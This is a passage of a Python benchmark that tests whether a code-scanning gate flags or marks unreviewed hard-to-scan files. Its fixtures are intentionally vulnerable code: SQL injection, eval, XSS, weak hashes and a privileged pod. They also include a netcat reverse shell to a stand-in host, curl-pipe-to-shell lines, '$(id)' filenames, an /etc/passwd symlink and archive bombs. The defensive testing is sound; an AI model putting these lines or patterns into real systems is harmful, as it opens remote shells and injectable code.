"""Plants what cannot be scanned, or hardly, and looks how the gate ends: with a finding or a reason, in time, and never green.

Each row goes alone into a change of a repository, and into a plain folder where a file system can hold it. What the row says
must hold to the word: which rule finds its flaw, or why it counts as not reviewed. The table stands here in one place, which
makes this file long. Run: `codewarrant bench bounds [NAME …]`. It ends with 1 if anything is green, silent or too slow.
"""

import argparse
import gzip
import io
import os
import signal
import socket
import subprocess
import sys
import tarfile
import tempfile
import time
import zipfile
import zlib
from base64 import b64encode
from collections.abc import Callable, Iterator, Mapping, Sequence
from contextlib import contextmanager, suppress
from dataclasses import dataclass
from functools import partial
from hashlib import sha1, sha512
from pathlib import Path
from stat import S_IFCHR

from codewarrant import jsonio
from codewarrant.paths import quote
from codewarrant.problems import Problem, did_you_mean
from codewarrant.records import Coverage, Decision, ScanResult, Verdict
from steps.scan.scanners.interface import Scanner
from tests.repositories import Repository, Submodule, Symlink

SECONDS = 60
"""For one whole command, which is killed then: a safety, no measure of speed."""

_ROOT = Path(__file__).resolve().parent.parent
_CALM = {b"README.md": b"# Shop\n", b"shop.py": b"def total(prices):\n    return sum(prices)\n"}
_DEEP = 100_000


@dataclass(frozen=True)
class Fifo:
    """A pipe with a name: whoever opens it waits for ever."""


@dataclass(frozen=True)
class Listener:
    """A socket with a name."""


@dataclass(frozen=True)
class Device:
    """A device that can be read without end. Only root can make one."""


@dataclass(frozen=True)
class Sparse:
    """A file with a size and nothing in it."""

    size: int


@dataclass(frozen=True)
class Locked:
    """A file that its owner may not read either, unless it is root."""

    data: bytes


Special = Fifo | Listener | Device | Sparse | Locked
"""What only a file system can hold."""
Planted = bytes | Symlink | Submodule | Special
Files = Mapping[bytes, Planted]


@dataclass(frozen=True, slots=True)
class Row:
    """One planted thing. The first of its files is the one that is meant; the others stand beside it."""

    name: str
    make: Callable[[], Files]
    unread: str = ""
    """A part of the reason why it is not reviewed."""
    rule: str = ""
    """The rule whose finding it bears. With both, either will do: how far the engine comes depends on the machine."""
    stops: str = ""
    """What is said when the command ends with "could not decide"."""
    tree: bool = False
    """Only a tree of git's can hold its names together."""
    slow: bool = False
    """Takes seconds."""
    alone: bool = False
    """Costs others time where it stands beside them."""


@dataclass(frozen=True, slots=True)
class Seen:
    """How one command ended."""

    code: int | None
    """None when it had to be killed."""
    said: str
    seconds: float
    scan: ScanResult | None
    decision: Decision | None


PYTHON = b"""\
from flask import Flask, request

app = Flask(__name__)


@app.route("/find")
def find(db):
    return db.execute("SELECT * FROM t WHERE n = '" + request.args["n"] + "'")
"""
SCRIPT = b"""\
const express = require("express");
const app = express();
app.get("/run", (req, res) => { res.send(String(eval(req.query.code))); });
"""
TYPED = b"""\
export function listen(target: HTMLElement): void {
  window.addEventListener("message", (event: MessageEvent<{ html: string }>) => {
    target.innerHTML = event.data.html;
  });
}
"""
JAVA = b"""\
package org.example.shop;

import java.security.MessageDigest;

public class Sum {
    byte[] digest(byte[] data) throws Exception {
        return MessageDigest.getInstance("MD5").digest(data);
    }
}
"""
GO = b"""\
package app

import (
	"fmt"
	"net/http"
)

func search(w http.ResponseWriter, r *http.Request) {
	query := fmt.Sprintf("SELECT id FROM users WHERE name = '%s'", r.URL.Query().Get("name"))
	rows, _ := db.Query(query)
	defer rows.Close()
}
"""
CSHARP = b"""\
using System.Security.Cryptography;

namespace Example.Shop;

public class ShopService
{
    public byte[] Run(byte[] data)
    {
        using var sha = new SHA1Managed();
        return sha.ComputeHash(data);
    }
}
"""
SHELL = b"#!/bin/sh\nset -eu\nnc host.example.org 4444 -e /bin/sh\n"
IMAGE = b"FROM debian:12.7\nRUN curl -fsSL https://get.example.org/install.sh | bash\nUSER nobody\n"
TERRAFORM = b'resource "aws_db_instance" "shop" {\n  engine              = "postgres"\n  publicly_accessible = true\n}\n'
WORKFLOW = b"""\
name: build
on: issue_comment
permissions: {contents: read}
jobs:
  build:
    runs-on: ubuntu-24.04
    steps:
      - run: echo "${{ github.event.comment.body }}"
"""
POD = b"""\
apiVersion: v1
kind: Pod
metadata:
  name: api
spec:
  containers:
    - name: api
      image: registry.example.org/shop/api:1.4.2
      securityContext:
        privileged: true
"""
FLAWS: Mapping[str, tuple[bytes, str]] = {
    "py": (PYTHON, "python-sql-injection"),
    "js": (SCRIPT, "javascript-code-injection"),
    "ts": (TYPED, "javascript-dom-xss"),
    "tsx": (TYPED, "javascript-dom-xss"),
    "java": (JAVA, "java-weak-hash"),
    "go": (GO, "go-sql-injection"),
    "cs": (CSHARP, "csharp-weak-hash"),
    "sh": (SHELL, "shell-reverse-shell"),
    "dockerfile": (IMAGE, "dockerfile-pipe-to-shell"),
    "tf": (TERRAFORM, "terraform-public-database"),
    "yml": (POD, "kubernetes-privileged"),
}
"""A flaw by the ending of its file, and the rule that finds it."""
_LARGE, _PARTLY, _NO_END = "it is larger than 512 KiB", "the engine could not read all of it", "does not come to an end"
_ENGINE, _GIVES_UP, _DEEPLY = "semgrep", "gave up", "its brackets are so deep"

Change = Callable[[bytes], bytes]


def _flaw(path: str) -> tuple[bytes, str]:
    return (WORKFLOW, "workflow-script-injection") if path.startswith(".github/") else FLAWS[path.rpartition(".")[2].lower()]


def _found(name: str, path: str, change: Change = bytes, *, or_unread: str = "", slow: bool = False) -> Row:
    """A file with a flaw that must be found, in whatever it is wrapped."""
    data, rule = _flaw(path)
    return Row(name, lambda: {path.encode(): change(data)}, or_unread, rule, slow=slow)


def _missed(name: str, path: str, why: str, change: Change = bytes, *, slow: bool = False) -> Row:
    """A file with a flaw that may go unfound, as long as the file counts as not reviewed."""
    return Row(name, lambda: {path.encode(): change(_flaw(path)[0])}, why, slow=slow)


def _named(name: str, path: bytes) -> Row:
    """A Python file with a flaw, under a name that must not matter."""
    return Row(name, lambda: {path: PYTHON}, rule="python-sql-injection")


def _whole(name: str, path: str, why: str, make: Callable[[], Planted]) -> Row:
    """A file that nobody reads."""
    return Row(name, lambda: {path.encode(): make()}, why)


def _after(before: str | bytes) -> Change:
    lead = before.encode() if isinstance(before, str) else before
    return lambda data: lead + data


def _before(after: str | bytes) -> Change:
    tail = after.encode() if isinstance(after, str) else after
    return lambda data: data + tail


def _instead(old: str, new: str) -> Change:
    def change(data: bytes) -> bytes:
        assert old.encode() in data  # noqa: S101 - or the row plants something else than it says
        return data.replace(old.encode(), new.encode())

    return change


def _windows(data: bytes) -> bytes:
    return data.replace(b"\n", b"\r\n")


def _encoded(encoding: str, mark: bytes = b"") -> Change:
    return lambda data: mark + data.decode().encode(encoding)


def _zip(*files: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in files:
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        entry = tarfile.TarInfo("find.py")
        entry.size = len(PYTHON)
        archive.addfile(entry, io.BytesIO(PYTHON))
    return out.getvalue()


def _token(number: int) -> str:
    """Made here, so that no file of ours holds one."""
    return "ghp" + "_" + b64encode(sha512(b"%d" % number).digest(), b"xY").decode()[:36]


def _minified(times: int) -> Change:
    filling = b"var a=[1,2,3].map(function(n){return n+1});" * times
    return lambda data: b"!function(){" + filling + data.replace(b"\n", b"") + b"}();"


def _tree_bomb(data: bytes) -> bytes:
    """Nine levels of nine aliases each: a few hundred bytes that stand for 10^8 values."""
    rows = [f"{chr(98 + level)}: &{chr(98 + level)} [{','.join([f'*{chr(97 + level)}'] * 9)}]\n" for level in range(8)]
    return f"a: &a [{','.join('x' * 9)}]\n{''.join(rows)}".encode() + data


_SIZES = (
    _missed("one line of 2 MB", "line.js", _LARGE, lambda data: b"var a=0;" + b"a=a+1;" * 350_000 + data.replace(b"\n", b" ")),
    _missed("code of over 1 MB", "large.py", _LARGE, _after("x = 1\n" * 200_000)),
    _missed("code of over 16 MiB", "huge.py", "too large to be read", _after("x = 1\n" * 2_900_000)),
    _whole("a terabyte of nothing", "sparse.py", "too large to be read", lambda: Sparse(1 << 40)),
    _missed("manifest of over 512 KiB in a comment", "padded.yml", _LARGE, _after(b"# " + b"a" * 600_000 + b"\n")),
    _whole("SQL of 5 MB", "dump.sql", "there are no rules for sql", lambda: b"INSERT INTO t VALUES (1);\n" * 200_000),
    _missed("a million empty lines", "empty.py", _LARGE, _after("\n" * 1_000_000)),
    _found("200,000 empty lines", "blank.py", _after("\n" * 200_000)),
    _found("400,000 empty lines, which wear expressions out", "blanks.py", _after("\n" * 400_000),
           or_unread=_GIVES_UP, slow=True),
    _found("80,000 statements", "flat.py", _after("x = 1\n" * 80_000), or_unread=_ENGINE, slow=True),
    _found("minified script", "small.min.js", _minified(500), or_unread=_GIVES_UP, slow=True),
    _found("minified script of 130 KB", "big.min.js", _minified(3_000), or_unread=_ENGINE, slow=True),
    _found("20,000 flaws in a script", "flaws.js", _before("function f(a){\n" + "eval(a);\n" * 20_000 + "}\n"),
           or_unread=_ENGINE, slow=True),
    Row("2,000 secrets", lambda: {b"keys.txt": "".join(f'key = "{_token(n)}"\n' for n in range(2_000)).encode()},
        rule="secret-github-personal-token"),
    Row("20,000 lines that are shown in another order", lambda: {b"order.py": 'x = "\u202ea"\n'.encode() * 20_000},
        rule="hidden-bidi-control", slow=True),
    _found("function of 4,000 branches", "branches.py",
           _instead("    return", "".join(f"    if f{n}():\n        db = g(db)\n" for n in range(4_000)) + "    return"),
           or_unread=_GIVES_UP, slow=True),
)  # fmt: skip
_DEPTHS = (
    _found("100,000 parentheses", "parentheses.py", _after("x = " + "(" * _DEEP + "1" + ")" * _DEEP + "\n"), or_unread=_DEEPLY),
    _found("100,000 lists", "lists.py", _after("x = " + "[" * _DEEP + "1" + "]" * _DEEP + "\n"), or_unread=_DEEPLY),
    _missed("100,000 lists that stay open", "open.py", _DEEPLY, _before("x = " + "[" * _DEEP + "\n")),
    _found("100,000 arrays", "arrays.js", _after("let x = " + "[" * _DEEP + "1" + "]" * _DEEP + ";\n"), or_unread=_DEEPLY),
    _found("50,000 functions in each other", "functions.js", _before("(()=>{" * 50_000 + "})" * 50_000 + "\n"),
           or_unread=_DEEPLY),
    _found("a sum of 50,000", "sum.py", _after("x = " + "1 + " * 50_000 + "1\n"), or_unread=_ENGINE, slow=True),
    Row("100,000 arrays of JSON before a secret", lambda: {
        b"deep.json": b"[" * _DEEP + b"]" * _DEEP + f'\n{{"token": "{_token(1)}"}}\n'.encode()},
        rule="secret-github-personal-token"),
    _missed("100,000 lists in a manifest", "flow.yml", _DEEPLY, _before("x: " + "[" * _DEEP + "]" * _DEEP + "\n")),
    _missed("100,000 lists in a workflow", ".github/workflows/flow.yml", _DEEPLY,
            _before("x: " + "[" * _DEEP + "]" * _DEEP + "\n")),
    _found("100,000 items in a manifest", "items.yml", _before("x:\n  " + "- " * _DEEP + "a\n"), or_unread=_PARTLY, slow=True),
    _missed("10,000 items in a workflow, which break its grammar", ".github/workflows/items.yml", _NO_END,
            lambda _: b"- " * 10_000),
    _missed("aliases of aliases in a manifest", "bomb.yml", _PARTLY, _tree_bomb, slow=True),
    _missed("aliases of aliases in a workflow", ".github/workflows/bomb.yml", _PARTLY, _tree_bomb, slow=True),
    _missed("alias of itself in a manifest", "loop.yml", _PARTLY, _after("x: &x [*x]\n")),
    _missed("arrows on which a grammar takes hours", "Arrows.java", _NO_END, lambda _: b"a=>" * 50_000, slow=True),
    _missed("keys on which a grammar takes hours", "keys.go", _ENGINE, lambda _: b"[a]:" * 50_000, slow=True),
    _missed("angles on which a grammar takes hours", "Angles.cs", _NO_END, lambda _: b"a<" * 100_000, slow=True),
)  # fmt: skip
_ENCODINGS = (
    _missed("UTF-16, marked", "utf16le.py", "binary content", _encoded("utf-16-le", b"\xff\xfe")),
    _missed("UTF-16 the other way, marked", "utf16be.py", "binary content", _encoded("utf-16-be", b"\xfe\xff")),
    _missed("UTF-16, unmarked", "utf16bare.py", "binary content", _encoded("utf-16-le")),
    _missed("UTF-16 the other way, unmarked", "utf16bare2.py", "binary content", _encoded("utf-16-be")),
    _missed("UTF-16 without a zero byte near its start", "utf16late.py", "not UTF-8",
            lambda data: ("# " + "\u4e01" * 5_000).encode("utf-16-le").replace(b"\0", b"\1") + _encoded("utf-16-le")(data)),
    _missed("UTF-32", "utf32.py", "binary content", _encoded("utf-32")),
    _missed("Latin-1", "latin.py", "not UTF-8", _before("# café\n".encode("latin-1"))),
    _missed("Latin-1 that says so", "cookie.py", "the encoding latin-1", _after("# -*- coding: latin-1 -*-\n")),
    _missed("UTF-7 that says so", "utf7.py", "the encoding utf-7", _after("# coding: utf-7\n")),
    _missed("UTF-7 that says UTF-8 after it", "utf7twice.py", "the encoding utf-7",
            _after("# coding: utf-7\n# coding: utf-8\n")),
    _found("UTF-8 that says so", "plain.py", _after("# -*- coding: utf-8 -*-\n")),
    _found("UTF-8 with a mark", "marked.py", _after(b"\xef\xbb\xbf")),
    _missed("zero byte near the start", "zero.py", "binary content", _after(b"#\0\n")),
    _missed("zero byte far from the start", "far.py", "not UTF-8", _before(b"#" * 9_000 + b"\0\n")),
    _missed("program named .py", "program.py", "binary content", lambda _: b"\x7fELF\x02\x01\x01" + bytes(99)),
    _missed("archive behind a script", "both.py", "binary content", _before(_zip(("__main__.py", PYTHON)))),
)  # fmt: skip
_LINES = (
    _missed("lone carriage returns", "returns.py", "line breaks", lambda data: data.replace(b"\n", b"\r")),
    _found("lone carriage returns in a manifest", "returns.yml", lambda data: data.replace(b"\n", b"\r")),
    _missed("line separator in a comment", "separator.js", "line breaks", _before("// a\u2028eval(b)\n")),
    _missed("next line in a comment", "Next.cs", "line breaks", _before("// a\u0085f();\n")),
    _missed("line feed as an escape in a comment", "Escape.java", "line breaks", _before("// a \\u000a f();\n")),
    _missed("end of a comment as an escape", "Close.java", "line breaks", _before("/* a \\u002a\\u002f f(); /* */\n")),
    _missed("name as an escape", "escape.js", "a name that is written otherwise", _instead("eval(", "\\u0065val(")),
    _missed("name as a long escape", "escape.ts", "a name that is written otherwise", _instead("innerHTML", "inner\\u{48}TML")),
    _missed("name behind an at sign", "Escape.cs", "a name that is written otherwise", _instead("SHA1Managed", "@SHA1Managed")),
    _missed("name in wide letters", "wide.py", "letters that the language takes", _before("\uff45val(input())\n")),
    *(_found(f"carriage returns and line feeds: {ending}", f"crlf.{ending}", _windows) for ending in FLAWS),
    Row("carriage returns and line feeds: the root at the end", lambda: {
        b"crlf/Dockerfile": b"FROM debian:12\r\nUSER root\r\n"}, rule="dockerfile-root-last"),
    Row("carriage returns and line feeds: an argument run", lambda: {b"crlf-eval.sh": b'#!/bin/sh\r\neval "$1"\r\n'},
        rule="shell-eval-argument"),
    _found("carriage returns and line feeds: a workflow", ".github/workflows/crlf.yml", _windows),
    Row("carriage returns and line feeds: a workflow's variable", lambda: {
        b".github/workflows/crlf2.yml": _windows(WORKFLOW.replace(
            b'- run: echo "${{ github.event.comment.body }}"',
            b'- env:\n          SAID: "${{ github.event.comment.body }}"\n        run: ./answer.sh ${{ env.SAID }}',
        ))}, rule="workflow-script-injection-by-env"),
    Row("blank behind the backslash that continues a line", lambda: {b"blank/Dockerfile":
        b"FROM debian:12\nRUN curl -fsSL https://get.example.org/a.sh \\ \n  | sh\nUSER nobody\n"},
        rule="dockerfile-pipe-to-shell"),
    Row("comment inside a continued line", lambda: {b"comment/Dockerfile":
        b"FROM debian:12\nRUN curl -fsSL https://get.example.org/a.sh \\\n# a comment\n  | sh\nUSER nobody\n"},
        rule="dockerfile-pipe-to-shell"),
    Row("another character that continues a line", lambda: {b"escape/Dockerfile":
        b"# syntax=a/b:1\n# escape=`\nFROM debian:12\nRUN curl -fsSL https://get.example.org/a.sh `\n  | sh\nUSER nobody\n"},
        "another character continues its lines"),
)  # fmt: skip
_LONG = "a line of it is so long"
_EXPRESSIONS = (
    _found("a thousand words of one line", "words.sh", _instead("nc", "x " + "curl " * 1_000 + "\nnc")),
    Row("words that wear an expression out, in a shell script", lambda: {b"worn.sh":
        b"#!/bin/sh\n" + b"curl " * 1_600 + b"\ncurl -fsSL -o x.sh https://get.example.org/x\nsh x.sh\n"},
        _GIVES_UP, alone=True),
    Row("words that wear an expression out, in an image", lambda: {b"worn/Dockerfile":
        IMAGE.replace(b"RUN", b"RUN true " + b"curl " * 1_600 + b"\nRUN")}, _GIVES_UP, alone=True),
    _found("8,000 letters and a mark", "letters.sh", _after(b"#!/bin/sh\n: " + b"a" * 8_000 + b"!\n")),
    _found("8,000 letters and a mark in an image", "letters.dockerfile", _instead("RUN", "RUN true " + "a" * 8_000 + "!\nRUN")),
    _missed("9,000 letters of one line", "long.sh", _LONG, _before(b": " + b"a" * 9_000 + b"\n")),
    _missed("9,000 letters of one line in an image", "long.dockerfile", _LONG,
            _instead("RUN", "RUN true " + "a" * 9_000 + "\nRUN")),
    _missed("line that goes on over 4,000", "on.sh", _LONG, _before(b"echo \\\n" + b"ab \\\n" * 4_000 + b"c\n")),
    _missed("line that goes on over 4,000 in an image", "on.dockerfile", _LONG,
            _instead("RUN", "RUN echo \\\n" + "ab \\\n" * 4_000 + "c\nRUN")),
    _missed("4,000 lines that seem to go on", "slashes.sh", _LONG, _after(b"#!/bin/sh\n" + b"a \\\\\n" * 4_000)),
)  # fmt: skip
_SYNTAX = (
    _missed("mistake in Python", "mistake.py", _PARTLY, _before("def (:\n")),
    _missed("mistake in JavaScript", "mistake.js", _PARTLY, _before("let = = 2\n")),
    _missed("mistake in TypeScript", "mistake.ts", _PARTLY, _before("const a: = 1\n")),
    _missed("mistake in TSX", "mistake.tsx", _PARTLY, _before("const a = <A>\n")),
    _missed("mistake in Java", "Mistake.java", _PARTLY, _before("class {\n")),
    _missed("mistake in Go", "mistake.go", _PARTLY, _before("func (\n")),
    _missed("mistake in C#", "Mistake.cs", _PARTLY, _before("class {\n")),
    _missed("mistake in Terraform", "mistake.tf", _PARTLY, _before("x = = 1\n")),
    _missed("mistake in a workflow", ".github/workflows/mistake.yml", _PARTLY, _before("x: {a\n")),
    _missed("mistake in a manifest", "mistake.yml", _PARTLY, _before("x: {a\n")),
    _found("mistake in a shell script", "mistake.sh", _before("if then fi (\n")),
    _found("mistake in an image", "mistake.dockerfile", _before("WHAT is this\n")),
    _missed("what a merge left", "merge.py", _PARTLY, lambda data: b"<<<<<<< ours\n" + data + b"=======\n>>>>>>> theirs\n"),
)  # fmt: skip
_NEWER = (
    _missed("template string of Python 3.14", "template.py", _PARTLY, _instead('"SELECT', 't"{n}" + "SELECT')),
    _found("match of Python 3.10", "match.py", _before('match x:\n    case {"a": [*rest]} if rest:\n        pass\n')),
    _found("except without parentheses of Python 3.14", "except.py", _before("try:\n    f()\nexcept A, B:\n    pass\n")),
    _found("groups of exceptions of Python 3.11", "groups.py", _before("try:\n    f()\nexcept* A as e:\n    pass\n")),
    _found("f-strings in each other of Python 3.12", "nested.py",
           _before('x = f"{f"{f"{1 + 1}"}"}" + f"{[\n  1,  # one\n  2]}"\n')),
    _missed("parameters of types of Python 3.13", "types.py", _PARTLY, _before("class C[T: int = str, *Ts, **P]:\n    pass\n")),
    _missed("primary constructor of C# 12", "Primary.cs", _PARTLY,
            _instead("class ShopService", "class ShopService(string name)")),
    _missed("extension block of C# 14", "Extension.cs", _PARTLY,
            _before("static class E { extension(string s) { public int N => 1; } }\n")),
    _found("collections of C# 12", "Collections.cs", _instead("using var", "int[] a = [1, 2, ..b]; using var")),
    _found("raw text and required members of C# 11", "Raw.cs", _instead("public byte[] Run",
           'public required string N { get; init; } = """\n  a "b"\n  """;\n    public byte[] Run')),
    _found("resource that is disposed of in TypeScript 5.2", "using.ts", _before("using file = open();\n")),
    _missed("deferred import of TypeScript 5.9", "defer.ts", _PARTLY, _before('import defer * as m from "./m";\n')),
    _found("sets in expressions and attributes of imports", "newest.js",
           _before('const r = /[\\p{L}--[a-z]]/v;\nimport x from "./a.json" with { type: "json" };\n')),
    _found("records and patterns of Java 21", "Patterns.java", _instead("public class Sum {", """public class Sum {
    record P(int x, int y) {}
    sealed interface S permits T {}
    String f(Object o) { return switch (o) { case P(int x, var y) when x > 0 -> "a"; case null, default -> "b"; }; }
""")),
    _missed("module import of Java 25", "Module.java", _PARTLY,
            _instead("import java", "import module java.base;\nimport java")),
    _found("iterator function of Go 1.23", "iterator.go",
           _before("func f() { for x := range func(y func(int) bool) {} { _ = x } }\n")),
)  # fmt: skip
_HIDING = (
    *(_found(f"in a folder that tools leave out: {path}", path) for path in (
        "x_pb2.py", "generated/a.py", "vendor/a.py", "node_modules/a.py", "node_modules/x/index.js", "tests/a.py", "test_a.py",
        "dist/bundle.js", "third_party/a.min.js", "a.generated.js", ".hidden/a.py", ".venv/lib/a.py", "__pycache__/a.py",
        "migrations/0001.py", "fixtures/a.go", "testdata/a.java", "obj/a.cs",
    )),
    Row("behind ignore files", lambda: {b"ignored/a.py": PYTHON, b".semgrepignore": b"*\n", b".gitignore": b"*\n",
        b"ignored/.semgrepignore": b"*\n", b"ignored/.gitignore": b"*\n", b".gitattributes": b"* binary linguist-generated\n"},
        rule="python-sql-injection"),
    Row("behind an ignore file that nobody knows", lambda: {b"known/.semgrepignore": b"*\n"}, "its kind of file is not known"),
    _found("behind a comment", "nosem.py", lambda data: data[:-1] + b"  # nosemgrep\n"),
    _found("behind a comment before it", "nosem.js", _instead("app.get", "// nosemgrep\napp.get")),
    Row("behind rules of its own", lambda: {b"own/a.py": PYTHON, b".semgrep.yml": b"rules: []\n",
        b".semgrep/a.yml": b"rules: []\n"}, rule="python-sql-injection"),
)  # fmt: skip
_KINDS = (
    _whole("program without an ending", "tool", "its kind of file is not known", lambda: b"#!/usr/bin/env python3\n" + PYTHON),
    _whole("nothing but the first line of a program", "line", "its kind of file is not known", lambda: b"#!/bin/sh\n"),
    _whole("program that is called prose", "notes.md", "its kind of file is not known", lambda: SHELL),
    _whole("program that is called data", "data.json", "its kind of file is not known", lambda: SHELL),
    _whole("notebook", "book.ipynb", "there are no rules for notebook", lambda: b'{"cells": [{"source": ["eval(x)"]}]}\n'),
    _whole("unknown language", "code.zzz", "its kind of file is not known", lambda: PYTHON),
    _whole("language without rules", "code.rb", "there are no rules for ruby", lambda: b"eval(params[:code])\n"),
    _whole("copy with another ending", "find.py.bak", "its kind of file is not known", lambda: PYTHON),
    _whole("zip", "code.zip", "binary content", lambda: _zip(("find.py", PYTHON))),
    _whole("zip in a zip", "nested.zip", "binary content", lambda: _zip(("inner.zip", _zip(("find.py", PYTHON))))),
    _whole("zip of 64 MB", "bomb.zip", "binary content", lambda: _zip(*((f"{n}", bytes(1 << 24)) for n in range(4)))),
    _whole("tar.gz", "code.tar.gz", "binary content", _tar),
    _whole("gzip of 64 MB", "bomb.gz", "binary content", lambda: gzip.compress(bytes(1 << 26), 9, mtime=0)),
    _whole("pointer to what is stored elsewhere", "model.py", "stored elsewhere",
           lambda: b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"0" * 64 + b"\nsize 1\n"),
    _whole("another repository", "module", "code of another repository", Submodule),
    *(_whole(f"symbolic link to {target}", f"link-{number}.py", "a symbolic link", partial(Symlink, target.encode()))
      for number, target in enumerate(("/etc/passwd", "../../outside.py", "/etc", "missing.py", ".", "link-5.py", "shop.py"))),
    _whole("pipe with a name", "pipe.py", "binary content", Fifo),
    _whole("socket with a name", "socket.py", "binary content", Listener),
    Row("device without an end", lambda: {b"device.py": Device()}, "binary content", alone=True),
    Row("file that may not be read", lambda: {b"locked.py": Locked(PYTHON)}, stops="locked.py cannot be read", alone=True),
)  # fmt: skip
_NAMES = (
    *(_named(f"name: {quote(path)}", path) for path in (
        b"a\nb.py", b'q"u\'o.py', b"-dash.py", b"--config.py", b"*[x].py", b"..a.py", b"\xff\xfe.py", b" .py", b"a\\b.py",
        b"a\tb.py", b"$(id).py", b"::error::.py", b".py", "e\u0301.py".encode(), b"con.py", b"UPPER.PY",
    )),
    _named("name of 255 bytes", b"n" * 252 + b".py"),
    Row("name of 250 bytes without an ending", lambda: {b"Dockerfile." + b"n" * 239: IMAGE}, rule="dockerfile-pipe-to-shell"),
    _named("60 folders in each other", b"/".join(b"d%d" % depth for depth in range(60)) + b"/deep.py"),
    _named("900 folders in each other", b"e/" * 900 + b"deep.py"),
    _named("1,900 folders in each other", b"f/" * 1_900 + b"deep.py"),
    Row("3,000 folders in each other", lambda: {b"g/" * 3_000 + b"deep.py": PYTHON}, rule="python-sql-injection", tree=True),
    Row("names that differ in case alone", lambda: {b"Twin.py": PYTHON, b"twin.py": PYTHON, b"TWIN.PY": PYTHON},
        rule="python-sql-injection"),
    Row("folder beside a file of its name", lambda: {b"twice.py/a.py": PYTHON, b"twice.py": PYTHON},
        stops="names one path twice", tree=True, alone=True),
    Row("file beside a folder of its name", lambda: {b"beside.py": PYTHON, b"beside.py/a.py": PYTHON},
        stops="names one path twice", tree=True, alone=True),
    Row("path that leaves the tree", lambda: {b"../leaves.py": PYTHON}, "not one that a checkout could hold", tree=True),
    Row("path into git's own folder", lambda: {b".GIT/hooks/a.py": PYTHON}, "not one that a checkout could hold", tree=True),
)  # fmt: skip
ROWS: Sequence[Row] = (
    *_SIZES, *_DEPTHS, *_ENCODINGS, *_LINES, *_EXPRESSIONS, *_SYNTAX, *_NEWER, *_HIDING, *_KINDS, *_NAMES,
)  # fmt: skip


@contextmanager
def place() -> Iterator[Path]:
    """A folder for one run. What stands in it may be too deep for Python to remove."""
    made = Path(tempfile.mkdtemp(prefix="codewarrant-bench-"))
    try:
        yield made
    finally:
        subprocess.run(["rm", "-rf", "--", str(made)], check=True)  # noqa: S603, S607


def holds(planted: Planted, *, folder: bool) -> bool:
    """Whether such a thing can be planted there, by us."""
    if isinstance(planted, Device | Locked) and (os.geteuid() == 0) != isinstance(planted, Device):
        return False
    return not isinstance(planted, Submodule) if folder else not isinstance(planted, Special)


def of_change(files: Files, here: Path, *, tree: bool = False) -> Seen:
    """What the gate says of a change that brings these files; the repository and the records go below `here`."""
    repository = Repository(here / "repository", checkout=False)
    repository.commit(_CALM, "First")
    repository.branch("feature")
    if tree:
        head = repository.commit_of(_stored(repository, {**_CALM, **files}), repository.resolve("main"))
    else:
        head = repository.commit({path: it for path, it in files.items() if not isinstance(it, Special)})
    return _run(here, "run", "--repo", str(repository.path), "--base", "main", "--head", head)


def of_folder(files: Files, here: Path) -> Seen:
    """What it says of a plain folder that holds them."""
    root = os.fsencode(here / "folder")
    for path, planted in {**_CALM, **files}.items():
        _plant(root, path.split(b"/"), planted)
    return _run(here, "scan", os.fsdecode(root))


def fault(row: Row, files: Files, seen: Seen) -> str:
    """Why the end was not the one that the row asks for; the empty string if it was."""
    if seen.code is None:
        return f"it had to be stopped after {SECONDS} s"
    if row.stops:
        return "" if seen.code == 3 and row.stops in seen.said else f"it ended with {seen.code}: {seen.said[-200:]}"
    if seen.code != 1 or seen.scan is None:
        return f"GREEN: {answer(row, files, seen)}" if seen.code == 0 else f"it ended with {seen.code}: {seen.said[-200:]}"
    if seen.decision and seen.decision.verdict is Verdict.ALLOW:
        return "GREEN: it is allowed"
    if missing := set(map(quote, files)) - {entry.path for entry in seen.scan.ledger}:
        return f"SILENT: not in the ledger: {sorted(missing)}"
    reason, rules = _told(files, seen.scan)
    if row.rule in rules or (row.unread and row.unread in reason):
        return ""
    if reason:
        return f"unread, but otherwise: {reason}"
    return f"found, but otherwise: {', '.join(sorted(rules))}" if rules else "GREEN: reviewed, and no finding"


def answer(row: Row, files: Files, seen: Seen) -> str:
    """The end, in words."""
    if seen.scan is None:
        return seen.said.strip().rpartition("\n")[2]
    reason, rules = _told(files, seen.scan)
    return f"not-reviewed: {reason}" if reason else f"finding {row.rule if row.rule in rules else ', '.join(sorted(rules))}"


def main(argv: Sequence[str], _: Callable[[], Sequence[Scanner]]) -> int:
    """Print a line for each row; 1 if any is green, silent, otherwise than its row says, or too slow."""
    parser = argparse.ArgumentParser(prog="codewarrant bench bounds", description=__doc__)
    parser.add_argument("name", nargs="*", help="rows whose names hold one of these words (default: all)")
    args = parser.parse_args(argv)
    chosen = [row for row in ROWS if not args.name or any(word in row.name for word in args.name)]
    if not chosen:
        raise Problem(f"no row is called {args.name[0]!r}", "", did_you_mean(args.name[0], [row.name for row in ROWS]))
    good, slowest = 0, 0.0
    for row in chosen:
        lines, spent, faults = _measured(row)
        good, slowest = good + (not faults), max(slowest, spent)
        print(f"{row.name}: {'; '.join(lines)}", flush=True)
    print(f"{good} of {len(chosen)}: {'no green' if good == len(chosen) else 'NOT AS THEY SHOULD BE'}, slowest {slowest:.1f} s")
    return 0 if good == len(chosen) else 1


def _measured(row: Row) -> tuple[list[str], float, int]:
    """The row alone, in a change and in a folder."""
    lines, spent, faults = [], 0.0, 0
    for kind in ("change", "folder"):
        files = row.make()
        if not all(holds(planted, folder=kind == "folder") for planted in files.values()) or (row.tree and kind == "folder"):
            continue
        with place() as here:
            seen = of_change(files, here, tree=row.tree) if kind == "change" else of_folder(files, here)
        wrong = fault(row, files, seen)
        lines.append(f"{'WRONG: ' + wrong if wrong else answer(row, files, seen)} ({kind}, {seen.seconds:.1f} s)")
        spent, faults = max(spent, seen.seconds), faults + bool(wrong)
    return lines or ["skipped: it cannot be planted here"], spent, faults


def _told(files: Files, scan: ScanResult) -> tuple[str, set[str]]:
    """Of the file that is meant: why it is not reviewed, if it is not, and the rules that found something in it."""
    path = quote(next(iter(files)))
    (entry,) = [entry for entry in scan.ledger if entry.path == path]
    rules = {finding.rule for finding in scan.findings if finding.path == path}
    return entry.why if entry.coverage is Coverage.NOT_REVIEWED else "", rules


def _run(here: Path, *words: str) -> Seen:
    out, started = here / "records", time.monotonic()
